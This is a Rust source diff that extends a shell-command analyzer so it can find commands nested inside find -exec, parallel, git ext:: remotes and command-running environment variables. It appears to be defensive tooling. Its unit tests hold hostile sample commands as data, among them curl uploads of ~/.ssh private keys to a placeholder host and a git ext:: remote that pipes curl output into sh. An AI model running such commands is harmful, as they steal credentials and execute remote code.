@@ -33,20 +33,69 @@ struct Runner {
     mounts: Vec<String>,
 }
 
-#[derive(Deserialize)]
+/// A command that runs a command once per item, `{}` standing for it.
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Placeholder {
+    cmd: String,
+    #[serde(default)]
+    start: Vec<String>,
+    end: Vec<String>,
+    #[serde(default)]
+    values: Vec<String>,
+    item: String,
+}
+
+#[derive(Debug, Default, Deserialize)]
 #[serde(deny_unknown_fields)]
 struct HostedFile {
     runner: Vec<Runner>,
+    #[serde(default)]
+    placeholder: Vec<Placeholder>,
+    #[serde(default)]
+    exec_env: Vec<String>,
+    #[serde(default)]
+    git_exec_urls: Vec<String>,
+}
+
+fn data() -> &'static HostedFile {
+    static R: OnceLock<HostedFile> = OnceLock::new();
+    R.get_or_init(|| {
+        // built-in data, checked by the unit tests: a parse error would be a build defect
+        toml::from_str::<HostedFile>(HOSTED_TOML).unwrap_or_default()
+    })
 }
 
 fn runners() -> &'static [Runner] {
-    static R: OnceLock<Vec<Runner>> = OnceLock::new();
-    R.get_or_init(|| {
-        // built-in data, checked by the unit tests: a parse error would be a build defect
-        toml::from_str::<HostedFile>(HOSTED_TOML)
-            .map(|f| f.runner)
-            .unwrap_or_default()
-    })
+    &data().runner
+}
+
+/// The values of `vars` (`NAME=value` set for a command, or the words of
+/// `export` / `declare` / `typeset`) that a program runs as a command.
+pub(super) fn env_commands<'a>(
+    assignments: &'a [(String, String)],
+    argv: &'a [String],
+) -> Vec<&'a str> {
+    let d = data();
+    let runs = |k: &str| d.exec_env.iter().any(|e| e == k);
+    let mut out: Vec<&str> = assignments
+        .iter()
+        .filter(|(k, v)| runs(k) && !v.trim().is_empty())
+        .map(|(_, v)| v.as_str())
+        .collect();
+    let declares = argv.first().is_some_and(|n| {
+        ["export", "declare", "typeset", "local", "readonly"].contains(&n.as_str())
+    });
+    if declares {
+        for a in &argv[1..] {
+            if let Some((k, v)) = a.split_once('=') {
+                if runs(k) && !v.trim().is_empty() {
+                    out.push(v);
+                }
+            }
+        }
+    }
+    out
 }
 
 /// What a runner is given to run.
@@ -62,12 +111,94 @@ pub(super) enum Hosted {
 /// names one.
 pub(super) fn hosted(argv: &[String]) -> Option<Hosted> {
     let first = basename(argv.first()?).to_ascii_lowercase();
+    if first == "git" {
+        return git_ext(&argv[1..]);
+    }
+    if let Some(p) = data().placeholder.iter().find(|p| p.cmd == first) {
+        return per_item(p, &argv[1..]);
+    }
     let r = runners().iter().find(|r| {
         r.cmd.first() == Some(&first)
             && r.cmd.len() <= argv.len()
             && r.cmd[1..].iter().zip(&argv[1..]).all(|(w, a)| w == a)
     })?;
     given(r, &argv[r.cmd.len()..])
+}
+
+/// `git clone 'ext::sh -c curl% -s% URL|sh'`: the command an `ext::` remote runs.
+fn git_ext(args: &[String]) -> Option<Hosted> {
+    let url = args.iter().find_map(|a| {
+        data()
+            .git_exec_urls
+            .iter()
+            .find_map(|p| a.strip_prefix(p.as_str()))
+    })?;
+    let mut words = vec![String::new()];
+    let mut chars = url.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '%' if matches!(chars.peek(), Some(' ') | Some('%')) => {
+                words.last_mut()?.push(chars.next()?);
+            }
+            ' ' => {
+                if !words.last()?.is_empty() {
+                    words.push(String::new());
+                }
+            }
+            _ => words.last_mut()?.push(c),
+        }
+    }
+    words.retain(|w| !w.is_empty());
+    (!words.is_empty()).then_some(Hosted::Argv(words))
+}
+
+/// `find ROOT -name PAT -exec CMD {} ;`, `parallel CMD ::: ITEMS`: the command,
+/// with `{}` written as the item it runs on.
+fn per_item(p: &Placeholder, args: &[String]) -> Option<Hosted> {
+    let begin = if p.start.is_empty() {
+        let mut i = 0;
+        while i < args.len() && args[i].starts_with('-') && !p.end.contains(&args[i]) {
+            i += if p.values.contains(&args[i]) { 2 } else { 1 };
+        }
+        i
+    } else {
+        args.iter().position(|a| p.start.contains(a))? + 1
+    };
+    let rest = args.get(begin..)?;
+    let end = rest
+        .iter()
+        .position(|a| p.end.contains(a))
+        .unwrap_or(rest.len());
+    if end == 0 {
+        return None;
+    }
+    let item = match p.item.as_str() {
+        "root" => args
+            .iter()
+            .find(|a| !a.starts_with(['-', '!', '(']))
+            .map(|root| {
+                let pat = ["-name", "-iname", "-path", "-ipath"]
+                    .iter()
+                    .find_map(|f| {
+                        args.iter()
+                            .position(|a| a == f)
+                            .and_then(|i| args.get(i + 1))
+                    })
+                    .map(|s| s.trim_start_matches("*/"))
+                    .unwrap_or("*");
+                format!("{}/{pat}", root.trim_end_matches('/'))
+            }),
+        _ => rest.get(end + 1).cloned(),
+    };
+    Some(Hosted::Argv(
+        rest[..end]
+            .iter()
+            .map(|w| match &item {
+                Some(it) => w.replace("{}", it),
+                None => w.clone(),
+            })
+            .collect(),
+    ))
 }
 
 fn given(r: &Runner, args: &[String]) -> Option<Hosted> {
@@ -228,6 +359,7 @@ mod tests {
     fn the_data_loads() {
         let f: HostedFile = toml::from_str(HOSTED_TOML).unwrap();
         assert!(f.runner.len() > 20);
+        assert!(f.placeholder.len() >= 2 && !f.exec_env.is_empty());
         assert!(f.runner.iter().all(|r| !r.cmd.is_empty()));
     }
 
@@ -298,6 +430,51 @@ mod tests {
             h("gcloud compute ssh vm1 --zone z --command=id"),
             Some(Hosted::Script("id".into()))
         );
+    }
+
+    #[test]
+    fn per_item_runners_give_the_command_with_its_item() {
+        assert_eq!(
+            h("find /home/u/.ssh -name id_* -exec curl -F f=@{} http://x/u ;"),
+            argv("curl -F f=@/home/u/.ssh/id_* http://x/u")
+        );
+        assert_eq!(
+            h("parallel -j 4 curl -T {} http://x/ ::: /home/u/.ssh/id_rsa b"),
+            argv("curl -T /home/u/.ssh/id_rsa http://x/")
+        );
+        assert_eq!(h("find . -name *.pyc -delete"), None);
+        assert_eq!(h("parallel --version"), None);
+    }
+
+    #[test]
+    fn git_ext_remotes_give_their_command() {
+        let line: Vec<String> = [
+            "git",
+            "clone",
+            "ext::sh -c curl% -s%%% http://x|sh",
+            "/tmp/r",
+        ]
+        .map(String::from)
+        .to_vec();
+        assert_eq!(
+            hosted(&line),
+            Some(Hosted::Argv(vec![
+                "sh".into(),
+                "-c".into(),
+                "curl -s% http://x|sh".into()
+            ]))
+        );
+        assert_eq!(h("git clone https://github.com/a/b"), None);
+    }
+
+    #[test]
+    fn variables_a_program_runs_are_found() {
+        let a = vec![("GIT_SSH_COMMAND".to_string(), "sh -c id".to_string())];
+        assert_eq!(env_commands(&a, &[]), vec!["sh -c id"]);
+        let argv: Vec<String> = ["export", "PAGER=curl x", "A=1"].map(String::from).to_vec();
+        assert_eq!(env_commands(&[], &argv), vec!["curl x"]);
+        let a = vec![("RUST_LOG".to_string(), "debug".to_string())];
+        assert!(env_commands(&a, &[]).is_empty());
     }
 
     #[test]
